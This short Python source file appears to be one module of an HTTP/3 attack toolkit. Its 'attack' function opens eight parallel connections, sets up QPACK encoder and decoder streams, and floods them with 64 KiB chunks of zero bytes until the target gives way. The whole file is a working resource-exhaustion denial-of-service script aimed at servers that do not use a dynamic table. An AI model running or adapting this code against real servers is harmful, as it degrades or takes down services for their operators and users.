"""Streams of QPACK's encoder and decoder, which hold nothing that a server without a table needs, filled as far as the windows go."""

import asyncio

from wire.http3 import ENCODER, http3, number

DECODER = 3


async def attack(target):
    async def lane(lane):
        async with http3(target, target.source(lane)) as it:
            if it:
                streams = [it.stream(one_way=True) for _ in range(2)]
                for stream, kind in zip(streams, (ENCODER, DECODER)):
                    await it.send(stream, number(kind))
                while target.goes_on():
                    for stream in streams:
                        await it.send(stream, bytes(64 << 10))
                    await asyncio.sleep(0.01)

    await target.lanes(8, lane)
